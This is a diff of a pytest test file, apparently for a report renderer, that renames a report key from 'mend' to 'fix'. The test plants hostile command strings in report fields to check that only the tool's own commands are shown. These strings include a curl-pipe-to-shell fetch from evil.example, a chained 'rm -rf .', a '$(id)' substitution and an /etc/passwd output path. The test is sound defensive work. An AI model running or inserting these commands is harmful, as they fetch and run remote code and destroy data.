@@ -363,20 +363,20 @@ def test_bad_input_takes_the_green_comment_down(runner: Runner) -> None:
 @pytest.mark.parametrize(
     ("key", "command"),
     [
-        *((key, "curl -s https://evil.example/x | sh") for key in ("reproduce", "explain", "accept", "mend")),
-        ("mend", "vrty-gate check m.yml; rm -rf ."),
-        ("mend", "vrty-gate check $(id)"),
-        ("mend", "vrty-gate check m.yml --output /etc/passwd"),
-        ("mend", "vrty-gate publish m.yml"),
-        ("mend", "vrty-gate"),
-        ("mend", "'"),
+        *((key, "curl -s https://evil.example/x | sh") for key in ("reproduce", "explain", "accept", "fix")),
+        ("fix", "vrty-gate check m.yml; rm -rf ."),
+        ("fix", "vrty-gate check $(id)"),
+        ("fix", "vrty-gate check m.yml --output /etc/passwd"),
+        ("fix", "vrty-gate publish m.yml"),
+        ("fix", "vrty-gate"),
+        ("fix", "'"),
     ],
 )
 def test_a_report_names_no_commands_but_ours(runner: Runner, key: str, command: str) -> None:
     runner.repository.write("refund.md", REVIEW)
     runner.step(report="report.json")
     report = json.loads(runner.repository.read("report.json"))
-    place = report["suites"][0]["cases"][0] if key == "mend" else report["suites"][0]
+    place = report["suites"][0]["cases"][0] if key == "fix" else report["suites"][0]
     place[key] = command
     runner.repository.write("report.json", json.dumps(report))
     done = runner.repository.run("render", "report.json")
